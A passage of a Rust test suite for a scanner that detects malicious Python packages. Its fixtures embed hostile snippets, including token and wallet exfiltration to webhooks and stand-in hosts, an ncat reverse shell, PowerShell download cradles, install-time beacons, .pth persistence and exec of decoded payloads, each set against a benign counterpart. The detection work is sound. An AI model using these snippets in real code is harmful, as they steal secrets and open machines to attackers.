    assert!(!f.message.ends_with("when asked"), "{f:#?}");
    let init = "from .model import load\nMODEL = load('https://example.com/m.pkl')\n";
    let f = found(&[("pkg/model.py", unpickle), ("pkg/__init__.py", init)], "unsafe-deserialization");
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
    assert!(f.because.iter().any(|b| b.starts_with("when: while the package loads")), "{f:#?}");
}

/// A secret the code only knows by its variable's name (`token`,
/// `password`) sent by one call to a webhook, a paste site or a raw IP
/// written in it goes where the author reads it: a "database" client posting
/// the token it is given to a Discord webhook, with `requests` kept in an
/// attribute (`self.requests = __import__("requests")`) to keep the import
/// out of sight. The same names sent to a service (the Telegram bot API
/// checking its own token, the cloud's metadata address) or to an ordinary
/// address are a client's work. Both front-ends. Written for the test.
#[test]
fn a_secret_named_variable_sent_to_a_webhook_is_exfiltration() {
    let client = "class Store:\n    def __init__(self, name, token):\n        \
                  self.requests = __import__('requests')\n        \
                  self.requests.post('https://discord.com/api/webhooks/1234/abcd', json={'content': name + ' ' + token})\n";
    for src in [client.to_owned(), format!("{client}print 'py2'\n")] {
        assert_eq!(severity_of("store/db.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
        // What it sends is the point: the caller's database name alone is not a secret.
        let name_only = src.replace("name + ' ' + token", "name");
        assert_eq!(severity_of("store/db.py", &name_only, "exfiltration"), None, "{name_only}");
    }
    // The module handle: its methods are the module's.
    let handle = "def run(cmd):\n    m = __import__('os')\n    m.system(cmd)\n";
    assert_eq!(severity_of("tool.py", handle, "process-shell"), Some(Severity::Medium));
    let pasted = "import requests\ndef share(password):\n    requests.post('http://203.0.113.9/p', data=password)\n";
    assert_eq!(severity_of("share.py", pasted, "exfiltration"), Some(Severity::Critical));
    let service = "import requests\ndef login(password):\n    \
                   requests.post('https://accounts.example.com/login', data={'p': password})\n";
    assert_eq!(severity_of("share.py", service, "exfiltration"), None);
    let telegram = "import requests\ndef verify(token):\n    \
                    return requests.get('https://api.telegram.org/bot{}/getMe'.format(token)).ok\n";
    assert!(severity_of("plugins/telegram.py", telegram, "exfiltration").is_none_or(|s| s < Severity::High));
    // A value read from settings under a key naming a secret counts as
    // its name would; a webhook message object (discord_webhook) sends what
    // it was built with.
    let settings = "import json\nfrom discord_webhook import DiscordWebhook\nwith open('settings.json') as f:\n    \
                    data = json.load(f)\ndef boost(ctx):\n    content = data['TOKEN']\n    \
                    DiscordWebhook(url='https://discord.com/api/webhooks/77/xyz', content=content).execute()\n";
    assert_eq!(severity_of("booster/__init__.py", settings, "exfiltration"), Some(Severity::Critical));
    let channel = settings.replace("data['TOKEN']", "data['channel']");
    assert_eq!(severity_of("booster/__init__.py", &channel, "exfiltration"), None);
    let chosen = "from discord_webhook import DiscordWebhook\ndef notify(url, token):\n    \
                  DiscordWebhook(url=url, content=token).execute()\n";
    assert!(severity_of("notify.py", chosen, "exfiltration").is_none_or(|s| s < Severity::High));
    let metadata = "import requests\ndef token():\n    return requests.get(\
                    'http://169.254.169.254/metadata/identity/oauth2/token', headers={'Metadata': 'true'}).json()\n";
    assert!(severity_of("cloud.py", metadata, "exfiltration").is_none_or(|s| s < Severity::High));
}

/// `pip install` of an archive or repository at an address the code writes
/// downloads it and runs its build code: download and run, high when its
/// user runs the command, critical while the package installs or loads. A
/// package name an index resolves (from the default index or one named with
/// `-i`) is an ordinary install. Both front-ends. Written for the test.
#[test]
fn pip_installing_from_an_address_written_in_the_code_is_download_and_run() {
    let cli = "import subprocess, sys\nSOURCE = 'https://github.com/someone/tool/raw/main/v1/tool-1.0.tar.gz'\n\
               def main(url=None):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', url or SOURCE])\n";
    for src in [cli.to_owned(), format!("{cli}print 'py2'\n")] {
        assert_eq!(severity_of("tool/cli.py", &src, "download-then-run"), Some(Severity::High), "{src}");
    }
    let at_load = "import os\nos.system('pip install git+https://github.com/someone/helper')\n";
    assert_eq!(severity_of("pkg/__init__.py", at_load, "download-then-run"), Some(Severity::Critical));
    // An index no project publishes on (plain HTTP, a raw IP, TLS checks
    // off) is the author's server: the package it names is theirs.
    for own_index in [
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', \
         'http://pkgs.example.invalid/simple/', 'helper-runtime'])\n",
        "import os\nos.system('pip install -i https://203.0.113.9/simple helper-runtime')\n",
        "import os\nos.system('pip install --extra-index-url https://pkgs.example.invalid/simple \
         --trusted-host pkgs.example.invalid helper-runtime')\n",
    ] {
        assert_eq!(severity_of("setup.py", own_index, "download-then-run"), Some(Severity::Critical), "{own_index}");
    }
    for ordinary in [
        "import os\ndef add():\n    os.system('pip install -i http://127.0.0.1:3141/simple requests')\n",
        "import subprocess, sys\ndef add():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'requests'])\n",
        "import os\ndef add():\n    os.system('pip install -i https://mirror.example/simple requests')\n",
        "import subprocess\ndef add(name):\n    subprocess.run(['pip', 'install', name])\n",
    ] {
        assert_eq!(severity_of("pkg/deps.py", ordinary, "download-then-run"), None, "{ordinary}");
    }
}

/// A webhook, paste site or raw IP kept in a module constant is the
/// request's destination as much as one written in the call: the request is
/// marked, a secret sent there is exfiltration, and a request there while
/// the module loads is a beacon. The cloud's metadata address is not such a
/// host. Both front-ends. Written for the test.
#[test]
fn an_authors_host_kept_in_a_constant_is_still_the_destination() {
    let webhook = "import requests\nHOOK = 'https://discord.com/api/webhooks/1234/abcd'\n\
                   def share(token):\n    requests.post(HOOK, json={'content': token})\n";
    for src in [webhook.to_owned(), format!("{webhook}print 'py2'\n")] {
        assert_eq!(severity_of("pkg/share.py", &src, "network-suspicious-host"), Some(Severity::Medium), "{src}");
        assert_eq!(severity_of("pkg/share.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
    }
    let beacon = "import requests\nC2 = 'http://45.61.139.2/hello'\nrequests.get(C2)\n";
    assert_eq!(severity_of("pkg/__init__.py", beacon, "suspicious-callback"), Some(Severity::High));
    let metadata = "import requests\nIMDS = 'http://169.254.169.254/latest/meta-data/'\nrequests.get(IMDS)\n";
    assert_eq!(severity_of("pkg/__init__.py", metadata, "suspicious-callback"), None);
    let service = "import requests\nAPI = 'https://api.example.com/v1/notes'\n\
                   def share(token):\n    requests.post(API, json={'content': token})\n";
    assert_eq!(severity_of("pkg/share.py", service, "network-suspicious-host"), None);
}

/// A key presented in `headers=` beside a decoded upload (an image an API
/// edits, sent as base64 by its caller) is still the client's key: the
/// decoded data is the request's body. A key decoded first, or a key sent in
/// the body with decoded data, stays the author's act. Written for the test.
#[test]
fn a_presented_key_beside_a_decoded_upload_authenticates() {
    let call = |headers: &str, body: &str| {
        format!(
            "import base64, os, requests\ndef edit(image):\n    key = os.getenv('IMAGES_API_KEY')\n    \
             return requests.post('https://api.images.example/v2/edit', headers={headers}, {body})\n"
        )
    };
    let key = "{'authorization': f'Bearer {key}'}";
    let upload = "files={'image': base64.b64decode(image)}";
    assert_eq!(severity_of("tools/images.py", &call(key, upload), "exfiltration"), Some(Severity::Medium));
    let decoded_key = "{'authorization': base64.b64decode(image).decode() + key}";
    assert_eq!(severity_of("tools/images.py", &call(decoded_key, "data={}"), "exfiltration"), Some(Severity::Critical));
    let in_body = "data={'k': key, 'image': base64.b64decode(image)}";
    assert_eq!(severity_of("tools/images.py", &call("{}", in_body), "exfiltration"), Some(Severity::Critical));
}

/// A tool passing on its own settings (`{k: v for k, v in
/// os.environ.items() if k.startswith("LOCUST_")}`) reads the variables of
/// its prefixes, not the whole environment; a test that keeps everything
/// (an empty or computed prefix, an `or`) is still the whole. Both
/// front-ends. Written for the test.
#[test]
fn the_environment_variables_of_a_prefix_are_not_the_whole_environment() {
    let send = |selection: &str| {
        format!(
            "import os, requests\ndef deploy():\n    selected = {selection}\n    \
             requests.post('https://deploy.example.com/run', json={{'env': selected}})\n"
        )
    };
    for selected in [
        "{k: v for k, v in os.environ.items() if k.startswith('MYTOOL_')}",
        "[{'name': k, 'value': os.environ[k]} for k in os.environ if k.startswith(('MYTOOL_', 'OTEL_')) and k != 'MYTOOL_X']",
        "dict((k, os.environ[k]) for k in os.environ.keys() if (k.startswith('MYTOOL_')))",
    ] {
        for src in [send(selected), format!("{}print 'py2'\n", send(selected))] {
            assert_eq!(severity_of("tool/deploy.py", &src, "exfiltration"), None, "{src}");
        }
    }
    for whole in [
        "dict(os.environ)",
        "{k: v for k, v in os.environ.items() if k.startswith('')}",
        "{k: v for k, v in os.environ.items() if k.startswith(PREFIX)}",
        "{k: v for k, v in os.environ.items() if k.startswith('MYTOOL_') or True}",
        "{k: v for k, v in os.environ.items() if v.startswith('MYTOOL_')}",
    ] {
        for src in [send(whole), format!("{}print 'py2'\n", send(whole))] {
            assert_eq!(severity_of("tool/deploy.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
        }
    }
}

/// A Dynamo Python node's script sets `OUT` (and reads `IN` or loads
/// assemblies through `clr`): Dynamo runs it when its user runs the graph.
/// A team's script kept on GitHub and run from such a node is high, and the
/// chain says when; the same code in a module, or in a package's
/// `__init__.py`, runs as it loads: critical. Both front-ends (a print
/// statement sends the source to the Python 2 one). Written for the test.
#[test]
fn a_dynamo_node_runs_when_its_user_runs_the_graph() {
    let node = "import clr\nclr.AddReference('RevitServices')\nimport urllib2\n\
                src = urllib2.urlopen('https://raw.githubusercontent.com/team/scripts/main/tool.py').read()\n\
                exec(src)\nOUT = 'done'\n";
    for src in [node.to_owned(), format!("{node}print 'ran'\n")] {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "graphs/load tool.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "exec-downloaded").expect("exec-downloaded");
        assert_eq!(f.severity, Severity::High, "{src}\n{:#?}", report.findings);
        assert!(f.because.iter().any(|b| b.contains("Dynamo graph")), "{f:#?}");
        assert_eq!(severity_of("pkg/__init__.py", &src, "exec-downloaded"), Some(Severity::Critical));
        // Without `OUT`, or setting it only inside a function, it is a module.
        let no_out = src.replace("OUT = 'done'\n", "");
        assert_eq!(severity_of("graphs/load tool.py", &no_out, "exec-downloaded"), Some(Severity::Critical));
        let in_function = src.replace("OUT = 'done'\n", "def f():\n    OUT = 'done'\n");
        assert_eq!(severity_of("graphs/load tool.py", &in_function, "exec-downloaded"), Some(Severity::Critical));
    }
    // `IN` alone names a node's inputs too.
    let inputs = "import urllib.request\nurl = IN[0]\nexec(urllib.request.urlopen(url).read())\nOUT = 1\n";
    assert_eq!(severity_of("node.py", inputs, "exec-downloaded"), Some(Severity::High));
}

/// PowerShell's `Invoke-Expression` given a quoted literal runs code
/// written out for a reader; given a download or a variable, it runs what
/// nobody can read here. Written for the test.
#[test]
fn invoke_expression_of_a_literal_is_not_hidden() {
    let written = "import subprocess\ndef sid():\n    \
                   return subprocess.run(['powershell', '-Command', \"Invoke-Expression '[Environment]::UserName | Write-Host'\"])\n";
    assert_eq!(severity_of("win.py", written, "process-hostile"), None);
    let fetched = "import subprocess\ndef up():\n    \
                   subprocess.run(['powershell', '-Command', \"iex (New-Object Net.WebClient).DownloadString('https://x.example/a')\"])\n";
    assert_eq!(severity_of("win.py", fetched, "process-hostile"), Some(Severity::High));
    let computed =
        "import subprocess\ndef run():\n    subprocess.run(['powershell', '-Command', 'Invoke-Expression $payload'])\n";
    assert_eq!(severity_of("win.py", computed, "process-hostile"), Some(Severity::High));
}

/// A tool's name starts a word: "ffconcat version 1.0" written to a list
/// file names no `ncat`; `ncat -e /bin/sh` does. Written for the test.
#[test]
fn a_hostile_tool_is_named_by_a_whole_word() {
    let concat = "def write_list(path, files):\n    with open(path, 'w') as f:\n        \
                  f.writelines(['ffconcat version 1.0\\n'] + [\"file '%s'\\n\" % x for x in files])\n";
    assert_eq!(severity_of("concat.py", concat, "script-dropper"), None);
    let shell = concat.replace("ffconcat version 1.0", "ncat -e /bin/sh 203.0.113.9 4444");
    assert_eq!(severity_of("concat.py", &shell, "script-dropper"), Some(Severity::High));
}

/// curl, wget and PowerShell's web cmdlets told to write a file download
/// to disk, however the process is started; the file started next is
/// download-then-run (critical at load). A download alone runs nothing.
/// Written for the test.
#[test]
fn a_download_tool_writing_a_file_then_a_start_is_download_then_run() {
    let drop = "import os, subprocess\nout = os.path.join(os.getcwd(), 'helper.exe')\n\
                cmd = f'curl.exe -L https://files.example.org/h.exe -o \"{out}\"'\n\
                subprocess.run(['powershell', '-Command', cmd])\n\
                subprocess.run(['powershell', '-Command', f'Start-Process \"{out}\"'])\n";
    assert_eq!(severity_of("pkg/__init__.py", drop, "download-then-run"), Some(Severity::Critical));
    let wget = "import subprocess\ndef update():\n    subprocess.call('wget -O /tmp/tool https://x.example/tool', shell=True)\n    \
                subprocess.call(['/tmp/tool', '--install'])\n";
    assert_eq!(severity_of("upd.py", wget, "download-then-run"), Some(Severity::High));
    // Only a download: the tool's own process starts nothing it fetched.
    let fetch = "import subprocess\nsubprocess.run(['curl', '-L', 'https://x.example/data.json', '-o', 'data.json'])\n";
    assert_eq!(severity_of("pkg/__init__.py", fetch, "download-then-run"), None);
}

/// A builtin type's own method (`bytes.fromhex(x)`) makes a new value: the
/// name `bytes` holds nothing of `x`, so a later `bytes` elsewhere (an
/// annotation, `isinstance(v, bytes)`) carries no label. A variable's method
/// still stores into it (`box.update(x)`). Written for the test.
#[test]
fn a_builtin_types_methods_store_nothing_in_the_type() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/tool.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
    };
    let typed = "import subprocess\ndef load(params, key):\n    params[key] = bytes.fromhex(params[key])\n\
                 def show(target):\n    subprocess.Popen(['viewer', repr(bytes), target])\n";
    assert_eq!(rules(typed), Vec::<&str>::new());
    let stored =
        "import subprocess\ndef run(box, blob):\n    box.update(bytes.fromhex(blob))\n    subprocess.Popen(box)\n";
    assert!(rules(stored).contains(&"process-decoded"), "{:?}", rules(stored));
    // A file that binds the name itself keeps it a variable.
    let bound = "import subprocess, base64\nbytes = ['viewer']\ndef run(blob):\n    bytes.append(base64.b64decode(blob))\n    \
                 subprocess.Popen(bytes)\n";
    assert!(rules(bound).contains(&"process-decoded"), "{:?}", rules(bound));
    // Bound to an empty list, it is a variable all the same.
    let empty = bound.replace("bytes = ['viewer']", "bytes = []");
    assert_ne!(empty, bound);
    assert!(rules(&empty).contains(&"process-decoded"), "{:?}", rules(&empty));
}

/// A builtin fetched by name (`getattr(builtins, name)`) and called through
/// `self` with decoded data is hidden code; a method the file defines,
/// called with decoded data in a file that also fetches a builtin, is not
/// that builtin. Written for the test.
#[test]
fn a_builtin_fetched_by_name_is_not_every_method_of_the_file() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/img.py", bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
    };
    let hidden = "import builtins, base64\nclass Loader:\n    def __init__(self, name):\n        \
                  self.run = getattr(builtins, name)\n    def go(self, blob):\n        self.run(base64.b64decode(blob))\n";
    assert!(rules(hidden).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(hidden));
    let own = "import builtins, base64\nrun_code = getattr(builtins, 'exec')\nclass Image:\n    \
               def __init__(self, blob):\n        self._read(base64.b64decode(blob))\n    \
               def _read(self, data):\n        return len(data)\n";
    assert!(!rules(own).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(own));
    // Called straight from the lookup, or from a table filled from builtins.
    let direct = "import builtins, base64\ndef go(name, blob):\n    getattr(builtins, name)(base64.b64decode(blob))\n";
    assert!(rules(direct).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(direct));
    // Looked up by a function made on the spot and called at once.
    let lambda = "import builtins, base64\n\
                  def go(blob):\n    (lambda g: getattr(g, 'ex' + 'ec'))(builtins)(base64.b64decode(blob))\n";
    assert!(rules(lambda).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(lambda));
    let table = "import builtins, base64\nRUN = {'x': getattr(builtins, 'ex' + 'ec')}\n\
                 def go(k, blob):\n    RUN[k](base64.b64decode(blob))\n";
    assert!(rules(table).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(table));
    // A table of the object's own handlers, in a file that also fetches a
    // builtin by name, is not that builtin (reportlab's `self.specials[k](...)`).
    let handlers = "import builtins, base64\nrun_code = getattr(builtins, 'exec')\nclass Doc:\n    \
                    def show(self, k, blob):\n        self.specials[k](self, k, base64.b64decode(blob))\n";
    assert!(!rules(handlers).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(handlers));
    let attribute = own.replace("self._read(base64.b64decode(blob))", "self._image.convert(base64.b64decode(blob))");
    assert_ne!(attribute, own);
    assert!(!rules(&attribute).iter().any(|(r, _)| *r == "exec-decoded"), "{:?}", rules(&attribute));
}

/// A list a function starts empty is that function's own: a method called
/// on it (`found.append(name)`) stores there, not in the module's variable
/// of the same name that another function reads. Without the local start,
/// the store reaches the module's variable. Written for the test.
#[test]
fn an_empty_value_a_function_binds_keeps_its_stores_local() {
    let high = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/xp.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
    };
    let local = "import os, urllib.request\nfound = ('index.txt',)\n\
                 def variables():\n    found = []\n    for name in os.environ:\n        found.append(name)\n    return len(found)\n\
                 def fetch(base):\n    return urllib.request.urlopen(base + found[0])\n";
    assert_eq!(high(local), Vec::<&str>::new());
    let shared = local.replace("    found = []\n", "");
    assert_ne!(shared, local);
    assert!(!high(&shared).is_empty(), "the module's variable holds the environment");
}

/// Each definition has its own parameters: two classes' `__init__` take
/// different ones, and a parameter of the first is not read from the
/// module's variable of the same name because the last `__init__` lacks
/// it. Written for the test.
#[test]
fn methods_of_one_name_keep_their_own_parameters() {
    let high = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/memo.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
    };
    let own = "import base64\nclass Memo:\n    def __init__(self, fn='memo.dbg'):\n        \
               open(fn, 'wb').close()\n\
               fn = base64.b64decode('bWVtby5kYmc=')\n\
               class Reader:\n    def __init__(self, data):\n        self.data = data\n";
    assert_eq!(high(own), Vec::<&str>::new());
    // Without the parameter, `fn` is the module's decoded name.
    let global = own.replace("def __init__(self, fn='memo.dbg'):", "def __init__(self):");
    assert_ne!(global, own);
    assert!(high(&global).contains(&"hidden-destination"), "{:?}", high(&global));
}

/// A hidden window is how a tool keeps a console from flashing (a message
/// box shown by PowerShell after Revit closes); what makes a command
/// hostile is what it runs: an encoded command or a download cradle, each
/// a hostile fragment of its own. Written for the test.
#[test]
fn a_hidden_window_alone_is_not_a_hostile_command() {
    let notice = "import os, tempfile\ndef write_updater(pid):\n    \
                  batch = '\\r\\n'.join(['@echo off', 'powershell -NoProfile -WindowStyle Hidden -Command \"[System.Windows.MessageBox]::Show(\\'Done\\')\"'])\n    \
                  with open(os.path.join(tempfile.gettempdir(), 'update_%d.bat' % pid), 'w') as f:\n        \
                  f.write(batch)\n";
    assert_eq!(severity_of("updater.py", notice, "script-dropper"), None);
    let encoded = notice.replace("-Command", "-EncodedCommand SQBFAFgA");
    assert_eq!(severity_of("updater.py", &encoded, "script-dropper"), Some(Severity::High));
    let cradle = notice.replace(
        "[System.Windows.MessageBox]::Show(\\'Done\\')",
        "IEX (New-Object Net.WebClient).DownloadString(\\'https://x.example/a\\')",
    );
    assert_eq!(severity_of("updater.py", &cradle, "script-dropper"), Some(Severity::High));
}

/// A module whose code is bytecode encrypted by an obfuscator, handed to
/// its runtime as the module loads, cannot be read by anyone: high, with
/// how it hides. A build script that runs the obfuscator on other code, or
/// a comment naming it, hides nothing. Written for the test (the bytes are
/// made up, not an encrypted module).
#[test]
fn code_encrypted_by_an_obfuscator_is_high() {
    let v8 = "# Pyarmor 9.1.8 (trial), 000000\nfrom pyarmor_runtime_000000 import __pyarmor__\n\
              __pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0c\\x00\\xcb\\r\\r\\n\\x80')\n";
    assert_eq!(severity_of("pkg/__init__.py", v8, "encrypted-code"), Some(Severity::High));
    let v7 = "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n\
              __pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n";
    assert_eq!(severity_of("pkg/core.py", v7, "encrypted-code"), Some(Severity::High));
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: v8.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "encrypted-code").unwrap();
    assert!(f.because.iter().any(|b| b.starts_with("how it hides")), "{:?}", f.because);
    let build = "import subprocess\n# protect with pyarmor before release\ndef protect(src):\n    \
                 subprocess.run(['pyarmor', 'gen', '-O', 'dist', src], check=True)\n\
                 def pyarmor_runtime():\n    return None\npyarmor_runtime()\n";
    assert_eq!(severity_of("tools/release.py", build, "encrypted-code"), None);
}

/// A beacon sends who runs it as well with a GET as with a POST: an HTTP
/// client's module functions (`httpx.get`) and a session's `.get` given an
/// address written in the code are senders; a mapping's `.get` is handed
/// keys and sends nothing. Written for the test.
#[test]
fn a_get_request_carrying_who_installs_is_a_beacon() {
    let httpx = "import getpass, httpx\nfrom setuptools import setup\n\
                 httpx.get('https://collector.example.net/b', params={'u': getpass.getuser()})\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", httpx, "install-beacon"), Some(Severity::Critical));
    let session = "import socket, requests\nfrom setuptools import setup\ns = requests.Session()\n\
                   s.get('https://collector.example.net/b', params={'h': socket.gethostname()})\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", session, "install-beacon"), Some(Severity::Critical));
    let mapping = "import socket\nfrom setuptools import setup\nseen = {}\n\
                   host = seen.get('build-host', socket.gethostname())\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", mapping, "install-beacon"), None);
}

/// A DNS lookup carries its name to the server of the domain it ends in:
/// who installs, built onto a domain written in the code and looked up
/// while installing (`gethostbyname(user + ".x.example")`, `nslookup
/// $(whoami).x.example`), is a beacon. Looking up the machine's own name
/// asks the local resolver about this machine. Written for the test.
#[test]
fn a_dns_lookup_of_who_installs_is_a_beacon() {
    let lookup = "import getpass, socket\nfrom setuptools import setup\n\
                  socket.gethostbyname(getpass.getuser() + '.k3x9.collector.example.net')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", lookup, "install-beacon"), Some(Severity::Critical));
    let tool = "import os\nfrom setuptools import setup\n\
                os.system('nslookup $(whoami).$(hostname).k3x9.collector.example.net')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", tool, "install-beacon"), Some(Severity::Critical));
    let own_address = "import socket\nfrom setuptools import setup\n\
                       ip = socket.gethostbyname(socket.gethostname())\nsetup(name='x', description=ip)\n";
    assert_eq!(severity_of("setup.py", own_address, "install-beacon"), None);
    let own_ping = "import os\nfrom setuptools import setup\nos.system('ping -c 1 $(hostname)')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", own_ping, "install-beacon"), None);
}

/// Desktop and browser wallets are credential stores like a browser's
/// cookies: their folders (`~/.electrum/wallets`, `%APPDATA%/Exodus`) and
/// browser wallets' extension ids, sent to an address in the code, are
/// exfiltration. Written for the test.
#[test]
fn wallet_stores_sent_out_are_exfiltration() {
    let electrum = "import glob, os, requests\nHOOK = 'https://collector.example.net/u'\ndef grab():\n    \
                    for f in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n        \
                    requests.post(HOOK, files={'f': open(f, 'rb')})\ngrab()\n";
    assert_eq!(severity_of("pkg/__init__.py", electrum, "exfiltration"), Some(Severity::Critical));
    let exodus = "import os, urllib.request\np = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n\
                  data = open(os.path.join(p, 'seed.seco'), 'rb').read()\n\
                  urllib.request.urlopen(urllib.request.Request('https://collector.example.net/u', data=data))\n";
    assert_eq!(severity_of("pkg/__init__.py", exodus, "exfiltration"), Some(Severity::Critical));
    let metamask = "import os, shutil, requests\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', \
                    'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn')\n\
                    shutil.make_archive('v', 'zip', src)\nrequests.post('https://collector.example.net/u', files={'v': open('v.zip', 'rb')}, data={'src': src})\n";
    assert_eq!(severity_of("pkg/__init__.py", metamask, "exfiltration"), Some(Severity::Critical));
    // A wallet library naming its own data folder sends nothing.
    let config =
        "import os\nDATA = os.path.expanduser('~/.electrum')\ndef path(name):\n    return os.path.join(DATA, name)\n";
    assert_eq!(severity_of("pkg/config.py", config, "exfiltration"), None);
}

/// A download saved to a path (`urlretrieve(url, path)`) makes the path
/// name fetched content: a module's function that returns it, started by
/// another module as it loads, is a download run from another file.
/// Written for the test.
#[test]
fn a_downloaded_file_returned_to_another_module_and_started_is_download_and_run() {
    let dl = "import os, tempfile, urllib.request\nURL = 'https://files.example.net/tool.exe'\ndef fetch():\n    \
              p = os.path.join(tempfile.gettempdir(), 'svc.exe')\n    urllib.request.urlretrieve(URL, p)\n    return p\n";
    let init = "import subprocess\nfrom .dl import fetch\nsubprocess.Popen([fetch()])\n";
    let entries =
        [Entry { path: "pkg/dl.py", bytes: dl.as_bytes() }, Entry { path: "pkg/__init__.py", bytes: init.as_bytes() }];
    let report = scan(&ManifestFacts::default(), &entries);
    let f = report
        .findings
        .iter()
        .find(|f| f.rule == "process-decoded" && f.file == "pkg/__init__.py")
        .unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.because.iter().any(|b| b.contains("`fetch` (pkg/dl.py")), "{:?}", f.because);
    // The path of a file read from disk and started is no download.
    let local = dl.replace("    urllib.request.urlretrieve(URL, p)\n", "");
    let entries = [
        Entry { path: "pkg/dl.py", bytes: local.as_bytes() },
        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
    ];
    let report = scan(&ManifestFacts::default(), &entries);
    assert!(!report.findings.iter().any(|f| f.rule == "process-decoded"), "{:#?}", report.findings);
}

/// Python runs a `.pth` file's import lines at every start of the
/// interpreter: one written while the package installs is the package
/// making itself run again (high); a tool writing one when its user asks
/// (setting up an environment) is medium. Written for the test.
#[test]
fn a_pth_file_written_at_install_is_persistence() {
    let install = "import os, site\nfrom setuptools import setup\n\
                   with open(os.path.join(site.getsitepackages()[0], 'zz_init.pth'), 'w') as f:\n    \
                   f.write('import zz_init\\n')\nsetup(name='x')\n";
    assert_eq!(severity_of("setup.py", install, "persistence-pth"), Some(Severity::High));
    let tool = "import os\ndef create(env, site_packages):\n    \
                with open(os.path.join(site_packages, '_env.pth'), 'w') as f:\n        f.write('import _env\\n')\n";
    assert_eq!(severity_of("pkg/env.py", tool, "persistence-pth"), Some(Severity::Medium));
    let read =
        "import os\ndef entries(sp):\n    return open(os.path.join(sp, 'easy-install.pth')).read().splitlines()\n";
    assert_eq!(severity_of("pkg/env.py", read, "persistence-pth"), None);
}

/// Code decoded from what a caller hands over and run when asked is how a
/// library loads a serialized function: a deserializer, unsafe on
/// untrusted input as `pickle.loads` is, and judged as one (medium, for a
/// reviewer); a payload the package carries (an encoded literal in the
/// file) or decoded code run as the module loads is the package's own
/// hidden code (critical). Written for the test.
#[test]
fn decoded_code_is_critical_when_the_package_carries_it_or_runs_it_unasked() {
    let loader = "import codecs, marshal, types\ndef func_load(code, globs=None):\n    \
                  raw = codecs.decode(code.encode('ascii'), 'base64')\n    \
                  return types.FunctionType(marshal.loads(raw), globs or globals())\n";
    assert_eq!(severity_of("pkg/utils.py", loader, "exec-decoded"), Some(Severity::Medium));
    // Names and constants are not encoded payloads.
    let named = format!("{loader}KEY = 'DEFAULT_SETTINGS_MODULE'\nMODE = 'rawunicodeescape'\n");
    assert_eq!(severity_of("pkg/utils.py", &named, "exec-decoded"), Some(Severity::Medium));
    let carried = format!(
        "{loader}BLOB = 'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXphYmNkZWZnaGlqa2xtbm9w'\ndef run():\n    func_load(BLOB)()\n"
    );
    assert_eq!(severity_of("pkg/utils.py", &carried, "exec-decoded"), Some(Severity::Critical));
    let at_import = "import base64\ndef load(s):\n    exec(base64.b64decode(s))\nload(open('cfg').read())\n";
    assert_eq!(severity_of("pkg/utils.py", at_import, "exec-decoded"), Some(Severity::Critical));
}

/// The type `types.FunctionType` handed to a check (`isinstance(x,
/// types.FunctionType)`) is compared against, not called: a download beside
/// it runs nothing. `exec` handed over (`map(exec, ...)`) is applied.
/// Written for the test.
#[test]
fn a_function_type_checked_against_runs_nothing() {
    let check = "import types, requests\ndef download(url):\n    data = requests.get(url).json()\n    \
                 if isinstance(data, types.FunctionType):\n        raise TypeError(url)\n    \
                 assert_is_type(data, dict, types.FunctionType)\n    return data\n";
    assert_eq!(severity_of("h2o/connection.py", check, "exec-downloaded"), None);
    let applied = check.replace("isinstance(data, types.FunctionType)", "list(map(exec, [data]))");
    assert!(severity_of("h2o/connection.py", &applied, "exec-downloaded").is_some_and(|s| s >= Severity::High));
}

/// One command line that downloads a file and starts it is download and
/// run by itself: at install time critical, in a function its caller calls
/// high. A download that is not run, or a command that runs without
/// downloading, is not. Written for the test.
#[test]
fn a_command_line_that_downloads_and_runs_is_download_then_run() {
    let level_in = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
